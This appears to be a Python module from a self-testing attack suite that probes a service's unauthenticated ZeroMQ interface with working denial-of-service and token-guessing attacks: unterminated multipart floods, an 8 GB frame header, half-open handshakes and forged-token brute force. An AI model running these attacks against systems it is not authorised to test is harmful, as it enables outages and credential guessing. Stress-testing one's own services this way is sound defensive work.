"""ZeroMQ before anybody is authenticated: what its wire protocol lets a stranger send."""

from __future__ import annotations

import asyncio
import contextlib
import struct

from attack.arena import RED, Arena, Findings, attack
from attack.clients import GONE, Line, for_seconds, now

_GREETING = b"\xff" + bytes(8) + b"\x7f\x03\x00" + b"NULL".ljust(20, b"\x00") + bytes(32)
_READY = b"\x04\x1c\x05READY\x0bSocket-Type\x00\x00\x00\x06DEALER"
_MORE, _LONG_MORE = 1, 3


async def _shaken(arena: Arena) -> Line:
    line = await Line.open(arena, port=arena.zeromq)
    line.send(_GREETING)
    async with asyncio.timeout(10):
        await line.reader.readexactly(64)
        line.send(_READY)
        await line.reader.readexactly(2)
    return line


async def _send_for(line: Line, seconds: float, piece: bytes, most: int) -> int:
    """How much the hub took, until it closed, the time was over or it was `most`."""
    sent, end = 0, now() + seconds
    with contextlib.suppress(*GONE):
        while now() < end and sent < most and not line.reader.at_eof():
            line.send(piece)
            async with asyncio.timeout(max(0.1, end - now())):
                await line.writer.drain()
            sent += len(piece)
            await asyncio.sleep(0)
    return sent


@attack("3", "multipart messages without an end, 400 MB on each of two connections", "zeromq")
async def endless_multipart(arena: Arena, seconds: float) -> Findings:
    found = Findings()
    body = bytes(64 * 1024)
    piece = (bytes([_LONG_MORE]) + struct.pack("!Q", len(body)) + body) * 16
    await _endless(arena, seconds, piece, found)
    return found


@attack("3", "multipart messages of millions of empty frames without an end", "zeromq")
async def endless_small_frames(arena: Arena, seconds: float) -> Findings:
    found = Findings()
    await _endless(arena, seconds, bytes([_MORE, 0]) * 200_000, found)
    return found


async def _endless(arena: Arena, seconds: float, piece: bytes, found: Findings) -> None:
    sent: list[int] = []

    async def send() -> None:
        line = await _shaken(arena)
        try:
            sent.append(await _send_for(line, seconds, piece, arena.many(400 << 20)))
        finally:
            line.drop()

    await for_seconds(seconds + 5, send(), send())
    found.note = f"{sum(sent) / 1e6:,.0f} MB were taken"


@attack("3", "a frame whose length is 8 GB, and 1,000 handshakes that stop", "zeromq")
async def half_open_zeromq(arena: Arena, seconds: float) -> Findings:
    found = Findings()
    opened: list[Line] = []
    try:
        huge = await _shaken(arena)
        opened.append(huge)
        huge.send(b"\x02" + struct.pack("!Q", 8 << 30) + bytes(1 << 20))
        for _ in range(arena.many(1_000)):
            with contextlib.suppress(*GONE):
                line = await Line.open(arena, port=arena.zeromq)
                line.send(_GREETING[:20])
                opened.append(line)
        found.note = f"{len(opened):,} connections"
        await asyncio.sleep(seconds)
    finally:
        for line in opened:
            line.drop()
    return found


@attack("4", "forged tokens over ZeroMQ from one address", "zeromq")
async def guessing_over_zeromq(arena: Arena, seconds: float) -> Findings:
    found = Findings()
    tried = 0

    async def guess() -> None:
        nonlocal tried
        line = await _shaken(arena)
        with contextlib.suppress(*GONE):
            await line.reader.read(4096)  # the rest of the handshake
            while True:
                tried += 1
                line.send(_message(b"", b"get", b"blue eyJh.eyJh.%d" % tried, b"news"))
                text = await line.reader.read(65536)
                if not text:
                    break
                for code in (b"invalid_token", b"rate_limited", b"limited", b"overloaded"):
                    if code in text:
                        found.answers[code.decode()] += text.count(code)
                        break
        line.drop()

    await for_seconds(seconds, *(guess() for _ in range(8)))
    guesses, most = found.answers["invalid_token"], 100 + 20 * seconds
    found.expect(guesses <= most, f"{guesses:,} guesses in {seconds:g} s were tried, not {most:g}")
    return found


@attack("flood", "puts over ZeroMQ at full speed without reading an answer", "zeromq")
async def unread_zeromq(arena: Arena, seconds: float) -> Findings:
    found = Findings()
    text = _message(b"", b"put", RED.encode(), b"log:z", b"x" * 1000) * 100

    async def put() -> None:
        line = await _shaken(arena)
        try:
            await _send_for(line, seconds, text, 1 << 40)
        finally:
            line.drop()

    await for_seconds(seconds + 2, *(put() for _ in range(4)))
    return found


def _message(*frames: bytes) -> bytes:
    parts = []
    for number, frame in enumerate(frames, 1):
        flags = 0 if number == len(frames) else _MORE
        if len(frame) < 256:
            parts.append(bytes([flags, len(frame)]) + frame)
        else:
            parts.append(bytes([flags | 2]) + struct.pack("!Q", len(frame)) + frame)
    return b"".join(parts)
